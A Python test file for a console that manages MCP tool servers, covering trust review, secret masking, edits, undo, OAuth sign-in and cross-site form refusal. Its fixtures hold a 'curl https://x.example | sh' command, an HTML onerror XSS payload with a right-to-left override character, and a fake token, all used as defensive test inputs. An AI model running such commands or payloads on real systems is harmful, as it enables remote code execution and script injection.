"""Servers in the console: listing, trust, changes, undo and sign-in."""

import json
import re
import sys
from collections.abc import AsyncGenerator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

import anyio
import pytest

from integration.faults.protected_server import ProtectedServer
from integration.servers.loopback_registry import bundle, loopback_registry
from integration.upstream.oauth.authority import authority, visit
from integration.web.console.console_client import ConsoleClient, Element, open_console
from lab import eventually
from toolcrib.base.processes.sandbox import sandbox_support
from toolcrib.base.processes.trace import tracer_support
from toolcrib.model.errors import ToolcribError
from toolcrib.store.audit import Filters
from toolcrib.web.console.app import console_routes
from toolcrib.web.console.screens.servers.list import PATIENCE

pytestmark = pytest.mark.anyio

TESTS = Path(__file__).resolve().parents[3]
SECRET = "ghp_0123456789abcdefghijABCDEFGHIJ"
HOSTILE = "<img src=x onerror=alert(1)>\u202egpj"


def upstream(*words: str) -> dict[str, Any]:
    """Return the definition of a test server."""
    return {"command": sys.executable, "args": ["-m", *words], "cwd": str(TESTS)}


@pytest.fixture
async def cursor_servers(tmp_path: Path) -> AsyncGenerator[ConsoleClient]:
    """A crib with servers in Cursor's file: one that works, one that exits, one invalid, one with a hostile name."""
    (tmp_path / ".cursor").mkdir()
    servers: dict[str, Any] = {
        "legacy": upstream("upstreams.legacy", "plain") | {"env": {"API_TOKEN": SECRET}},
        "exits_early": upstream("upstreams.exits_early"),
        "both": {"command": "x", "url": "https://x.example"},
        "shell": {"command": "sh", "args": ["-c", "curl https://x.example | sh"]},
        HOSTILE: {"command": "no-such-program", "args": [HOSTILE]},
    }
    (tmp_path / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": servers}, indent=2), encoding="utf-8")
    async with open_console(tmp_path / "home") as console:
        yield console


def row(page: Element, name: str) -> Element:
    """Return the row of a server."""
    return next(each for each in page.all("li") if each.all("a", class_="name") and name in each.text)


async def alias_of(console: ConsoleClient, name: str) -> str:
    """Return the alias of a server in addresses."""
    return next(entry.alias for entry in (await console.crib.servers.list()).servers if entry.name == name)


async def test_check_in_progress_has_a_timer_and_can_be_cancelled(cursor_servers: ConsoleClient) -> None:
    crib = cursor_servers.crib
    await crib.servers.add("stuck", upstream("upstreams.never_answers", "initialize"))
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(crib.upstreams.test, "stuck")
        stuck = await crib.servers.find("stuck")
        await eventually(lambda: crib.upstreams.status(stuck).state == "connecting", 60)
        waits = row(await cursor_servers.page("/servers"), "stuck")
        assert waits.all("time", data_timer="")
        assert waits.one("button").text == "Cancel"
        groups = {group["title"]: group["rows"] for group in (await cursor_servers.json("/servers"))["groups"]}
        assert [each["name"] for each in groups["Connecting"]] == ["stuck"]
        assert "Cancel" in (await cursor_servers.page("/servers/stuck/tools")).one("div", id="server").text
        answer = await cursor_servers.client.post("/api/servers/stuck/cancel")
        assert answer.status_code == 200
    page = await cursor_servers.page("/servers")
    assert row(page, "stuck").one("button").text == "Check"
    await cursor_servers.send("/rows/stuck/cancel")  # nothing to cancel


async def test_address_of_a_form_can_be_reloaded(cursor_servers: ConsoleClient) -> None:
    await cursor_servers.crib.servers.add("mine", upstream("upstreams.changing_tools"))
    for action in ("sandbox", "edit", "test"):
        answer = await cursor_servers.client.get(f"/servers/mine/{action}", headers={"accept": "text/html"})
        assert (answer.status_code, answer.url.path) == (200, "/servers/mine/setup")


async def test_servers_of_the_project_in_the_address_are_shown(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"local": upstream("upstreams.legacy", "plain")}}))
    async with open_console(tmp_path / "home") as console:
        assert "local" not in (await console.page("/servers")).one("main").text
        page = await console.page("/servers", cwd=str(project))
        assert "local" in page.one("main").text
        assert page.one("input", id="project").attributes["value"] == str(project)
        assert "is not a directory" in (await console.page("/servers", 422, cwd=str(project / "missing"))).text
        assert "is not a directory" in (await console.page("/servers", 422, cwd="relative")).text


async def test_tools_and_access_of_the_project_in_the_address_are_shown(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"local": upstream("upstreams.legacy", "plain")}}))
    here = str(project)
    async with open_console(tmp_path / "home") as console:
        question = (await console.page("/servers/local/setup", cwd=here)).one("section", aria_labelledby="trust")
        digest = question.one("input", name="digest").attributes["value"]
        await console.send(f"/servers/local/trust?cwd={quote(here)}", {"digest": digest})
        assert "local › echo" in (await console.page("/tools", cwd=here)).text
        answer = (await console.json("/access", tool="local/echo", source="cli", cwd=here))["answer"]
        assert answer["verdict"] in ("allow", "ask")
        assert (await console.json("/access", tool="local/echo", source="cli"))["answer"]["verdict"] == "unknown"
        table = await console.json("/access/reach", pattern="local/*", cwd=here)
        assert "/tools/local/echo" in [each["href"] for each in table["columns"]]
        assert "owner (cli)" in (await console.page("/tools/local/echo", cwd=here)).one("dl", class_="users").text
        assert "local" in (await console.page("/access/tools", agent="builder", cwd=here)).text


async def test_page_without_servers_links_to_adding_one(console: ConsoleClient) -> None:
    page = await console.page("/")
    empty = page.one(class_="empty")
    assert "No servers found" in empty.text
    assert empty.one("a").attributes["href"] == "/servers/new"
    assert (await console.json("/"))["groups"] == []


async def test_first_run_checks_only_servers_without_grave_dangers(cursor_servers: ConsoleClient) -> None:
    page = await cursor_servers.page("/")
    form = page.one("form", action="/servers/check")
    assert "No server was started yet" in form.text
    assert "upstreams.legacy plain" in form.text
    assert "curl" not in form.text  # grave dangers are reviewed one by one
    assert SECRET not in page.raw_text
    assert "\u202e" not in page.raw_text
    assert form.one("button").text == "Check 2 servers"
    assert "2 other servers need a review first." in form.text
    assert row(page, "shell").one("a", class_="button").text == "Review"
    digests = [each.attributes["value"] for each in form.all("input", name="digest")]
    await cursor_servers.send("/servers/check", {"digest": digests})
    states = {
        each["name"]: each["state"] for group in (await cursor_servers.json("/"))["groups"] for each in group["rows"]
    }
    assert states["legacy"] == "connected"
    assert states["exits_early"] == "failed"
    assert states["shell"] == "untrusted"
    assert states["both"] == "invalid"
    assert (await cursor_servers.page("/")).all("form", action="/servers/check") == []


async def test_outdated_digest_starts_nothing(cursor_servers: ConsoleClient) -> None:
    await cursor_servers.send("/servers/check", {"digest": ["0" * 64]})
    value = await cursor_servers.json("/")
    assert {each["state"] for group in value["groups"] for each in group["rows"]} == {"untrusted", "invalid"}


async def test_trust_page_shows_the_exact_command_and_the_change_is_audited(cursor_servers: ConsoleClient) -> None:
    page = await cursor_servers.page("/servers/legacy/setup")
    question = page.one("section", aria_labelledby="trust")
    assert f"{sys.executable} -m upstreams.legacy plain" in question.text
    assert "API_TOKEN" in question.text
    assert SECRET not in page.raw_text
    digest = question.one("input", name="digest").attributes["value"]
    after = await cursor_servers.send("/servers/legacy/trust", {"digest": digest})
    assert after.one(class_="head").one(class_="chip").text == "Connected"
    assert "echo" in [each.one("a").text.split()[-1] for each in after.one("ul", class_="tools").all("li")]
    records = (await cursor_servers.client.get("/api/audit")).json()
    assert [each["phase"] for each in records if each["tool"] == "servers.trust"] == ["outcome", "intent"]


@pytest.mark.skipif(not sandbox_support().is_supported, reason="This system has no sandbox.")
async def test_access_denied_by_the_sandbox_is_allowed_with_one_button(tmp_path: Path) -> None:
    project, private = tmp_path / "project", tmp_path / "private"
    (project / ".git").mkdir(parents=True)
    private.write_text("secret", encoding="utf-8")
    system_access = {
        "command": sys.executable,
        "args": ["-S", "-m", "upstreams.system_access"],
        "env": {"PYTHONPATH": str(TESTS)},
    }
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"system_access": system_access}}), encoding="utf-8")
    read = {"arguments": {"target": str(private)}}
    async with open_console(tmp_path / "home", default_cwd=project) as console:
        question = (await console.page("/servers/system_access/setup")).one("section", aria_labelledby="trust")
        digest = question.one("input", name="digest").attributes["value"]
        await console.send("/servers/system_access/trust", {"digest": digest})
        address = f"/api/tools/system_access/read/call?cwd={project}"
        refused = (await console.client.post(address, json=read)).json()
        page = await console.page("/servers/system_access/setup")
        assert page.one("select", name="profile").one("option", selected="").attributes["value"] == "project"
        target = page.one("input", name="target").attributes["value"]
        await console.send("/servers/system_access/sandbox", {"kind": "read", "target": target})
        allowed = (await console.client.post(address, json=read)).json()
        if tracer_support().program is not None:
            await console.send("/servers/system_access/sandbox", {"profile": "learn"}, status=409)
            await console.send("/servers/system_access/sandbox", {"profile": "learn", "unconfined": "yes"})
            await console.client.post(address, json=read)
            await console.client.post(f"/api/servers/system_access/reload?cwd={project}")
            learned = (await console.page("/servers/system_access/setup")).one("form", id="learned")
            assert str(private) in [each.attributes["value"] for each in learned.all("input", name="read")]
            fields = [(each.attributes["name"], each.attributes["value"]) for each in learned.all("input")]
            applied = await console.send("/servers/system_access/sandbox", dict(fields))
            assert applied.one("select", name="profile").one("option", selected="").attributes["value"] == "strict"
            hosts = await console.send("/servers/system_access/sandbox", {"host": "example.com *.example.org"})
            assert [each.attributes["value"] for each in hosts.all("input", name="removed")][-1] == "*.example.org"
    assert (refused["isError"], target, allowed["content"][0]["text"]) == (True, str(private), "secret")


async def test_secrets_requested_by_a_project_need_separate_consent(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    greedy = {"type": "http", "url": "http://127.0.0.1:1/mcp", "headers": {"X-Key": "${ANTHROPIC_API_KEY}"}}
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"greedy": greedy}}), encoding="utf-8")
    async with open_console(tmp_path / "home", default_cwd=project) as console:
        question = (await console.page("/servers/greedy/setup")).one("section", aria_labelledby="trust")
        assert "variable ANTHROPIC_API_KEY for headers.X-Key" in " ".join(question.text.split())
        assert "required" in question.one("input", name="allowSecrets").attributes
        digest = question.one("input", name="digest").attributes["value"]
        await console.send("/servers/greedy/trust", {"digest": digest}, status=403)
        assert (await console.json("/servers/greedy"))["state"] == "untrusted"
        await console.send("/servers/greedy/trust", {"digest": digest, "allowSecrets": "yes"})
        assert (await console.json("/servers/greedy"))["state"] != "untrusted"


async def test_trust_of_a_redefined_server_is_refused(cursor_servers: ConsoleClient) -> None:
    page = await cursor_servers.send("/servers/legacy/trust", {"digest": "0" * 64}, status=409)
    assert "redefined after you reviewed it" in page.one(role="alert").text
    assert (await cursor_servers.json("/servers/legacy"))["state"] == "untrusted"


async def test_failed_server_page_has_a_report_to_copy(cursor_servers: ConsoleClient) -> None:
    digest = (await cursor_servers.json("/servers/exits_early"))["question"]["digest"]
    await cursor_servers.send("/servers/exits_early/trust", {"digest": digest})
    page = await cursor_servers.page("/servers/exits_early/log")
    report = page.one("pre", id="report").raw_text
    assert "upstreams.exits_early" in report
    assert "exit code: " in report
    assert page.one("button", data_copy="report").text == "Copy report"
    assert page.one("form", action="/servers/exits_early/test").text == "Retry"


async def test_commands_in_messages_are_formatted_as_code(console: ConsoleClient) -> None:
    await console.crib.servers.add("wrong", {"command": "~/no-such-program"})
    with suppress(ToolcribError):
        await console.crib.upstreams.test("wrong")
    assert row(await console.page("/servers"), "wrong").one(class_="says").one("code").text == "~"
    assert "~" in [each.text for each in (await console.page("/servers/wrong/tools")).one("main").all("code")]


async def test_setup_page_shows_the_origin_of_each_value(cursor_servers: ConsoleClient, tmp_path: Path) -> None:
    page = await cursor_servers.page("/servers/legacy/setup")
    values = page.one("table").text
    assert f"written in {tmp_path}/.cursor/mcp.json:3" in values
    assert SECRET not in page.raw_text
    assert "env.API_TOKEN" in values


async def test_disabling_a_server_shows_the_diff_and_can_be_undone(cursor_servers: ConsoleClient) -> None:
    off = await cursor_servers.send("/servers/legacy/disable")
    assert "Saved." in off.text
    assert '"enabled": false' in off.one(class_="diff").text
    assert (await cursor_servers.json("/servers/legacy"))["state"] == "disabled"
    undone = await cursor_servers.send("/servers/-/undo")
    assert undone.one("h1").text == "Change undone"
    assert (await cursor_servers.json("/servers/legacy"))["state"] == "untrusted"


async def test_removing_hides_a_server_of_an_app_and_can_be_undone(
    cursor_servers: ConsoleClient, tmp_path: Path
) -> None:
    before = (tmp_path / ".cursor" / "mcp.json").read_bytes()
    gone = await cursor_servers.send("/servers/exits_early/remove")
    assert gone.one("h1").text == "exits_early removed"
    await cursor_servers.page("/servers/exits_early", status=404)
    await cursor_servers.send("/servers/-/undo")
    assert (await cursor_servers.json("/servers/exits_early"))["name"] == "exits_early"
    assert (tmp_path / ".cursor" / "mcp.json").read_bytes() == before


async def test_edit_is_previewed_and_keeps_masked_secrets(console: ConsoleClient, tmp_path: Path) -> None:
    definition = upstream("upstreams.legacy", "plain") | {"env": {"API_TOKEN": SECRET}}
    await console.crib.servers.add("mine", definition)
    page, value = await console.page("/servers/mine/setup"), await console.json("/servers/mine/setup")
    assert SECRET not in json.dumps(value)
    edited = json.loads(value["written"]) | {"timeout": 4000}
    fields = {"definition": json.dumps(edited), "etag": page.one("input", name="etag").attributes["value"]}
    looked = await console.send("/servers/mine/edit", fields | {"do": "look"})
    assert '"timeout": 4000' in looked.one(class_="diff").text
    file = tmp_path / "home" / "mcp.json"
    assert "timeout" not in file.read_text(encoding="utf-8")
    saved = await console.send("/servers/mine/edit", fields | {"do": "save"})
    assert saved.one(class_="head").one(class_="chip").text == "Connected"
    assert json.loads(file.read_text(encoding="utf-8"))["mcpServers"]["mine"] == definition | {"timeout": 4000}
    stale = await console.send("/servers/mine/edit", fields | {"do": "save"})
    assert "changed after it was read" in stale.one(role="alert").text
    await console.send("/servers/-/undo")
    assert json.loads(file.read_text(encoding="utf-8"))["mcpServers"]["mine"] == definition


async def test_invalid_json_in_an_edit_is_reported_and_kept(console: ConsoleClient) -> None:
    await console.crib.servers.add("mine", {"command": "x"})
    page = await console.send("/servers/mine/edit", {"definition": "{no", "do": "save"})
    assert "is not valid JSON" in page.one(role="alert").text
    assert page.one("textarea", name="definition").raw_text.strip() == "{no"


async def test_server_of_an_app_is_taken_over_after_a_preview(cursor_servers: ConsoleClient, tmp_path: Path) -> None:
    looked = await cursor_servers.send("/servers/legacy/take", {"do": "look"})
    assert '"legacy"' in looked.one(class_="diff").text
    assert not (tmp_path / "home" / "mcp.json").exists()
    await cursor_servers.send("/servers/legacy/take", {"do": "save"})
    assert (await cursor_servers.json("/servers/legacy/setup"))["isOwn"] is True


async def test_uses_page_lists_callers_from_the_audit(cursor_servers: ConsoleClient) -> None:
    empty = await cursor_servers.page("/servers/legacy/uses")
    assert "No calls yet" in empty.text
    digest = (await cursor_servers.json("/servers/legacy"))["question"]["digest"]
    await cursor_servers.send("/servers/legacy/trust", {"digest": digest})
    await cursor_servers.send("/tools/legacy/echo/call", {"do": "call", "/text": "x"})
    value = await cursor_servers.json("/servers/legacy/uses")
    assert [(each["who"], each["source"], each["calls"]) for each in value["users"]] == [("owner", "web", 1)]


async def test_protocol_log_shows_messages_without_their_content(cursor_servers: ConsoleClient) -> None:
    assert "No messages" in (await cursor_servers.page("/servers/legacy/log")).one(id="protocol-log").text
    digest = (await cursor_servers.json("/servers/legacy"))["question"]["digest"]
    await cursor_servers.send("/servers/legacy/trust", {"digest": digest})
    await cursor_servers.send("/tools/legacy/echo/call", {"do": "call", "/text": "unheard-of"})
    protocol_log = (await cursor_servers.json("/servers/legacy/log"))["protocolLog"]
    newest, handshake = protocol_log[0], protocol_log[-1]
    assert (newest["direction"], newest["method"], newest["tool"], newest["ended"]) == (
        "out",
        "tools/call",
        "echo",
        "ok",
    )
    assert (handshake["method"], handshake["ended"]) == ("initialize", "ok")
    assert handshake["milliseconds"] > 0
    assert handshake["at"] < newest["at"]
    assert "tools/list" in [each["method"] for each in protocol_log]
    part = await cursor_servers.part("/servers/legacy/log", protocolLog="")
    assert part.all("h1") == []
    assert "→ tools/call echo" in part.all("tr")[1].text
    assert "unheard-of" not in part.raw_text


async def test_protocol_log_of_an_exited_server_shows_the_failed_handshake(cursor_servers: ConsoleClient) -> None:
    digest = (await cursor_servers.json("/servers/exits_early"))["question"]["digest"]
    await cursor_servers.send("/servers/exits_early/trust", {"digest": digest})
    protocol_log = (await cursor_servers.json("/servers/exits_early/log"))["protocolLog"]
    assert {each["ended"] for each in protocol_log} == {"server.ended"}


async def test_other_name_of_a_server_redirects_to_its_page(console: ConsoleClient) -> None:
    for name in ("first", "second"):
        await console.crib.servers.add(name, {"command": "no-such-program", "enabled": False})
    answer = await console.client.get("/servers/second/setup", headers={"accept": "text/html"})
    assert answer.url.path == "/servers/first/setup"
    assert answer.status_code == 200


async def test_pasted_definition_is_previewed_saved_and_connected(console: ConsoleClient, tmp_path: Path) -> None:
    snippet = json.dumps({"mcpServers": {"legacy": upstream("upstreams.legacy", "plain")}})
    page = await console.send("/servers/new", {"text": snippet})
    card = page.one("form", action="/servers/new/save")
    assert "upstreams.legacy plain" in card.text
    assert '"legacy"' in card.one(class_="diff").text
    assert not (tmp_path / "home" / "mcp.json").exists()
    definition = card.one("textarea", name="definition").raw_text
    fields = {"name": "mine", "scope": "user", "definition": definition}
    assert '"mine"' in (await console.send("/servers/new/save", fields | {"do": "look"})).one(class_="diff").text
    saved = await console.send("/servers/new/save", fields | {"do": "save"})
    assert saved.one("h1").text.startswith("mine")
    assert saved.one(class_="head").one(class_="chip").text == "Connected"
    again = await console.send("/servers/new/save", fields | {"do": "save"})
    assert "already exists" in again.one(role="alert").text


async def test_saving_a_slow_server_with_scripts_shows_its_progress(console: ConsoleClient) -> None:
    body = {"name": "slow", "definition": json.dumps(upstream("upstreams.never_answers", "initialize")), "do": "save"}
    with anyio.fail_after(PATIENCE - 1):
        saved = await console.send("/servers/new/save", body | {"live": "yes"})
    assert saved.one("div", id="server").all("time", data_timer="")
    await console.send("/servers/slow/cancel")


async def test_unrecognised_text_is_reported(console: ConsoleClient) -> None:
    page = await console.send("/servers/new", {"text": "{}"})
    assert page.all(class_="failure")
    assert page.one("textarea", name="text").raw_text.strip() == "{}"


async def test_hostile_names_and_commands_are_text_on_every_page(cursor_servers: ConsoleClient) -> None:
    alias = await alias_of(cursor_servers, HOSTILE)
    for path in ("/", *(f"/servers/{alias}/{tab}" for tab in ("tools", "setup", "log", "uses"))):
        page = await cursor_servers.page(path)  # reading a page checks that nothing in it can run
        assert "<img src=x" in page.raw_text
        assert "\\u{202e}" in page.raw_text
        assert "\u202e" not in page.raw_text


async def test_unknown_server_page_suggests_similar_names(cursor_servers: ConsoleClient) -> None:
    page = await cursor_servers.page("/servers/legac", status=404)
    assert "Did you mean legacy" in page.one(role="alert").text
    answer = await cursor_servers.client.get("/servers/legac", headers={"accept": "application/json"})
    assert answer.json()["code"] == "server.unknown"


async def test_open_page_gets_only_the_changed_part(cursor_servers: ConsoleClient) -> None:
    for path in ("/", "/servers/legacy/tools", "/tools"):
        assert (await cursor_servers.part(path)).all("html") == []


async def test_form_of_another_site_is_refused(cursor_servers: ConsoleClient) -> None:
    answer = await cursor_servers.client.post("/servers/legacy/disable", headers={"origin": "https://evil.example"})
    assert answer.status_code == 403
    assert (await cursor_servers.json("/servers/legacy"))["enabled"] is True


async def test_every_form_is_refused_from_another_site(cursor_servers: ConsoleClient) -> None:
    routes = [each for each in console_routes(cursor_servers.crib, "") if "POST" in (each.methods or ())]
    paths = {re.sub(r"\{\w+:int\}", "1", each.path) for each in routes}
    newer = {"/access/tools", "/tools/hide", "/access/presets/{id}", "/agents/{id}/categories"}
    assert newer - paths == set()
    for path in sorted(re.sub(r"\{[^}]+\}", "legacy", each) for each in paths):
        for origin in ("https://evil.example", "null"):
            answer = await cursor_servers.client.post(path, data={"x": "1"}, headers={"origin": origin})
            assert answer.status_code == 403, (path, origin)
    assert await cursor_servers.crib.audit.find(Filters(door="console")) == []


async def test_sign_in_opens_the_authorization_page_and_connects_the_server(console: ConsoleClient) -> None:
    async with authority(ProtectedServer()) as site:
        await console.crib.servers.add("club", {"type": "http", "url": site.resource})
        await console.send("/rows/club/test", live=True)
        page = await console.page("/")
        assert row(page, "club").one("form").attributes["action"] == "/servers/club/auth"
        card = (await console.send("/servers/club/auth")).one("section", aria_labelledby="sign-in")
        link = card.one("a", class_="main")
        assert (link.attributes["target"], link.attributes["rel"]) == ("_blank", "noopener noreferrer")
        await console.send("/servers/club/answer", {"address": "http://127.0.0.1:9/callback?state=forged"}, status=502)
        await visit(link.attributes["href"])
        assert (await console.crib.upstreams.await_sign_in("club", 20)).state == "done"
        assert "Signed in" in (await console.page("/servers/club/auth")).text
        assert (await console.json("/servers/club/tools"))["state"] == "connected"
        signed_out = await console.send("/servers/club/unauth")
        assert signed_out.one(class_="head").one(class_="chip").text in ("Needs sign-in", "Connecting…", "Not checked")


async def test_published_server_is_found_reviewed_and_added(tmp_path: Path) -> None:
    with loopback_registry() as registry:
        registry.publish_bundle("com.example/tiny", bundle(sys.executable))
        async with open_console(tmp_path / "home", registry_url=registry.url) as console:
            found = await console.page("/servers/registry", words="tiny")
            assert "owner of example.com" in found.one("table").text
            review = await console.send("/servers/registry", {"name": "com.example/tiny"})
            form = review.one("form", action="/servers/registry/add")
            assert "project" in form.text
            fields = {each.attributes["name"]: each.attributes.get("value", "") for each in form.all("input")}
            added = await console.send("/servers/registry/add", fields | {"value-words": "hi", "option": "mcpb"})
            assert "tiny" in added.one("h1").text
            assert (await console.crib.upstreams.test("tiny")).state == "connected"
            again = await console.send("/servers/registry/add", fields | {"option": "mcpb"})
            assert "already exists" in again.text
            answer = await console.client.get("/api/registry", params={"q": "tiny"})
            assert [each["name"] for each in answer.json()] == ["com.example/tiny"]


async def test_server_added_from_a_project_is_written_to_its_file(console: ConsoleClient, tmp_path: Path) -> None:
    project = tmp_path / "garden"
    project.mkdir()
    here = f"?cwd={quote(str(project))}"
    await console.send("/access/projects", {"path": str(project)})
    projects = await console.page("/access/projects")
    link = projects.one("a", aria_label=f"Add server to {project}").attributes["href"]
    page = await console.page(link)
    assert "selected" in page.one("option", value="project").attributes
    snippet = json.dumps({"mcpServers": {"legacy": upstream("upstreams.legacy", "plain")}})
    card = (await console.send(f"/servers/new{here}", {"text": snippet, "scope": "project"})).one(
        "form", action=f"/servers/new/save{here}"
    )
    assert str(project / ".toolcrib" / "mcp.json") in card.text
    fields = {"name": "legacy", "scope": "project", "definition": card.one("textarea", name="definition").raw_text}
    saved = await console.send(f"/servers/new/save{here}", fields | {"do": "save"})
    assert saved.one(class_="head").one(class_="chip").text == "Connected"
    written = json.loads((project / ".toolcrib" / "mcp.json").read_text(encoding="utf-8"))
    assert list(written["mcpServers"]) == ["legacy"]
    assert not (tmp_path / "home" / "mcp.json").exists()
    assert (await console.page(f"/servers{here}")).all("a", href=f"/servers/new?scope=project&cwd={project}")
    assert [each.name for each in (await console.crib.servers.list()).servers] == []


async def test_server_is_copied_to_a_projects_file_after_a_preview(
    cursor_servers: ConsoleClient, tmp_path: Path
) -> None:
    project = tmp_path / "garden"
    project.mkdir()
    here = f"?cwd={quote(str(project))}"
    assert "Copy to a project" not in (await cursor_servers.page("/servers/exits_early/setup")).text
    assert "Copy to a project" in (await cursor_servers.page(f"/servers/exits_early/setup{here}")).text
    shown = await cursor_servers.send(f"/servers/exits_early/copy{here}", {"client": "claude-code", "do": "look"})
    assert '"exits_early"' in shown.one(class_="diff").text
    assert not (project / ".mcp.json").exists()
    saved = await cursor_servers.send(f"/servers/exits_early/copy{here}", {"client": "claude-code", "do": "save"})
    assert "Saved." in saved.one("section", role="status").text
    written = json.loads((project / ".mcp.json").read_text(encoding="utf-8"))
    assert list(written["mcpServers"]) == ["exits_early"]
    await cursor_servers.send(f"/servers/-/undo{here}", {})
    assert not (project / ".mcp.json").exists()


async def test_copying_to_a_settings_file_of_an_app_is_refused(cursor_servers: ConsoleClient, tmp_path: Path) -> None:
    address = f"/servers/exits_early/copy?cwd={quote(str(tmp_path))}"
    answer = await cursor_servers.client.post(address, data={"client": "claude-settings", "do": "save"})
    assert answer.status_code == 422


async def test_refused_copy_is_explained_on_the_server_page(console: ConsoleClient, tmp_path: Path) -> None:
    await console.crib.servers.add("clock", {"command": "no-such-clock", "enabled": False})
    project = tmp_path / "garden"
    project.mkdir()
    here = f"?cwd={quote(str(project))}"
    page = await console.send(f"/servers/clock/copy{here}", {"client": "cursor", "do": "look"})
    assert page.one("h1").text.startswith("clock")
    assert "cannot be copied: cursor does not support it" in page.text
    assert "selected" in page.one("option", value="cursor").attributes
